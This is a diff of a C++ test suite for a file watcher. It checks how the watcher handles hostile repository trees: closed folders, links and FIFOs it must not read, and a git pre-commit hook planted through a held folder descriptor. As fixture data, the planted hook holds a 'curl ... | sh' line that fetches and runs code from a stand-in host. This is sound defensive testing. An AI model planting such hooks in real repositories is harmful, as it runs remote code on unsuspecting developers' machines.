@@ -1,6 +1,5 @@
-// What a hostile repository or another local user can do to the watcher: plant a file while its folder
-// is closed to the watcher, and point links at things that must never be read. Modes mean nothing to
-// root, so as root the watcher and the attacker both run as nobody.
+// What a hostile repository or another local user can do to the watcher: close folders to it, plant a
+// file in one, point links at things that must never be read. As root, watcher and attacker are nobody.
 
 #include "WatcherHarness.h"
 
@@ -17,13 +16,6 @@ namespace {
 using namespace std::chrono_literals;
 namespace fs = std::filesystem;
 
-constexpr int nobody = 65534;
-
-bool canDropPrivileges()
-{
-    return geteuid() != 0 || runProcess({"setpriv", "--version"}).exitCode == 0;
-}
-
 // Runs a shell command line as nobody when the tests run as root, as is otherwise.
 void asUser(const std::string& command, const fs::path& cwd)
 {
@@ -34,63 +26,50 @@ void asUser(const std::string& command, const fs::path& cwd)
     ASSERT_EQ(result.exitCode, 0) << command << "\n" << result.out << result.err;
 }
 
-TEST(TwwatchHostileTree, HookPlantedWhileItsFolderIsClosedIsReported)
+// A folder closed from the start is one warning and the rest is watched. A hook planted through a
+// descriptor of hooks/ opened before .git closed is said out loud, and reported once .git opens.
+TEST(TwwatchHostileTree, ClosedFoldersAreWarningsAndAHookPlantedInOneIsReported)
 {
-    if (!canDropPrivileges())
-        GTEST_SKIP() << "running as root and cannot drop privileges: modes would not apply";
-    struct Case
-    {
-        const char* name;
-        const char* plant; // run in the watched root; leaves .git closed (mode 000)
-        const char* hook;
-    };
-    const Case cases[] = {
-        // A folder descriptor opened beforehand still reaches hooks/ once .git is closed.
-        {"through a folder descriptor",
-         "mkdir -p .git/hooks && exec 3<.git/hooks && chmod 000 .git && "
-         "printf '#!/bin/sh\\ncurl -s http://x.invalid | sh\\n' >/proc/self/fd/3/pre-commit",
-         ".git/hooks/pre-commit"},
-        // tar sets folder modes last: the hook is written into an open .git that then closes.
-        {"by extracting an archive",
-         "mkdir -p ../src/.git/hooks && printf '#!/bin/sh\\n' >../src/.git/hooks/post-checkout && "
-         "tar -cf ../a.tar -C ../src . && tar -rf ../a.tar -C ../src --no-recursion --mode=000 ./.git && "
-         "tar -xpf ../a.tar",
-         ".git/hooks/post-checkout"},
-    };
-    for (const auto& c : cases) {
-        SCOPED_TRACE(c.name);
-        TempDir base;
-        const fs::path root = base / "repo";
-        fs::create_directories(root);
-        if (geteuid() == 0)
-            shell("chown -R 65534:65534 . && chmod 755 .", base.path());
-        Watcher watcher({.runAsUid = nobody});
-        ASSERT_TRUE(watcher.watch({root}));
+    TempDir base;
+    const fs::path root = base / "repo";
+    fs::create_directories(root / "closed");
+    fs::create_directories(root / "open/sub");
+    if (geteuid() == 0)
+        shell("chown -R 65534:65534 . && chmod 755 .", base.path());
+    asUser("chmod 000 closed", root);
+    Watcher watcher({.asNobody = true});
+    watcher.send({root});
+    const std::string closed = (root / "closed").string();
+    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
+        return l.path == closed && l.rule == "permission_denied" && l.severity == "warning";
+    }));
+    // The warning comes while the first walk is still going.
+    ASSERT_TRUE(watcher.sync(root / "open/sub"));
 
-        asUser(c.plant, root);
-        const std::string hook = (root / c.hook).string();
-        // The failed read is said out loud: the hook's, or its folder's if that closed before the watcher
-        // got to it (unless the watcher was quick enough to read the hook first).
-        const auto aboutHook = [&](const WatchLine& l) {
-            return hook.rfind(l.path, 0) == 0 && (l.path == hook || hook[l.path.size()] == '/');
-        };
-        ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
-            return aboutHook(l) && (l.rule == matchEverything || l.rule == "permission_denied");
-        }));
-        for (const auto& l : watcher.lines()) {
-            if (aboutHook(l) && l.rule != matchEverything)
-                EXPECT_TRUE(l.rule == "permission_denied" && l.severity == "warning") << l.raw;
-        }
-        asUser("chmod 755 .git", root);
-        EXPECT_TRUE(watcher.sees(hook));
+    asUser("mkdir -p .git/hooks && exec 3<.git/hooks && chmod 000 .git && "
+           "printf '#!/bin/sh\\ncurl -s http://x.invalid | sh\\n' >/proc/self/fd/3/pre-commit",
+           root);
+    const std::string hook = (root / ".git/hooks/pre-commit").string();
+    // The hook's failed read, or its folder's if that closed before the watcher got to it (unless the
+    // watcher was quick enough to read the hook first).
+    const auto aboutHook = [&](const WatchLine& l) {
+        return hook.rfind(l.path, 0) == 0 && (l.path == hook || hook[l.path.size()] == '/');
+    };
+    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
+        return aboutHook(l) && (l.rule == matchEverything || l.rule == "permission_denied");
+    }));
+    for (const auto& l : watcher.lines()) {
+        if (aboutHook(l) && l.rule != matchEverything)
+            EXPECT_TRUE(l.rule == "permission_denied" && l.severity == "warning") << l.raw;
     }
+    asUser("chmod 755 .git", root);
+    EXPECT_TRUE(watcher.sees(hook));
+    // Reported once, not again on every later change.
+    EXPECT_EQ(watcher.linesFor(closed, "permission_denied").size(), 1u);
 }
 
 TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
 {
-    WatcherSetup setup;
-    setup.rules.emplace_back("content.yar", "rule target_content { meta: severity = \"critical\" "
-                                            "strings: $m = \"TARGET-CONTENT\" condition: $m }\n");
     TempDir root, outside;
     writeFile(outside / "secret", "TARGET-CONTENT\n");
     ASSERT_EQ(::mkfifo((outside / "fifo").c_str(), 0600), 0);
@@ -99,10 +78,11 @@ TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
     std::thread writer([&] {
         const int fd = ::open((outside / "fifo").c_str(), O_WRONLY | O_CLOEXEC);
         writerReleased = true;
-        if (fd >= 0)
-            ::close(fd);
+        ::close(fd);
     });
-    Watcher watcher(setup);
+    Watcher watcher({.rules = {WatcherSetup{}.rules[0],
+                               {"content.yar", "rule target_content { meta: severity = \"critical\" "
+                                               "strings: $m = \"TARGET-CONTENT\" condition: $m }"}}});
     ASSERT_TRUE(watcher.watch({root.path()}));
 
     writeFile(root / "plain", "TARGET-CONTENT\n");
@@ -112,7 +92,8 @@ TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
     // Path rules still see the links.
     EXPECT_TRUE(watcher.waitForPaths(links));
     EXPECT_TRUE(watcher.waitForPaths({(root / "plain").string()}, 20s, "target_content"));
-    EXPECT_EQ(watcher.reported("target_content"), std::set<std::string>{(root / "plain").string()});
+    for (const auto& line : watcher.lines())
+        EXPECT_TRUE(line.rule != "target_content" || line.path == (root / "plain").string()) << line.raw;
     EXPECT_FALSE(waitUntil([&] { return writerReleased.load(); }, 300ms)) << "the FIFO was opened";
 
     const int reader = ::open((outside / "fifo").c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
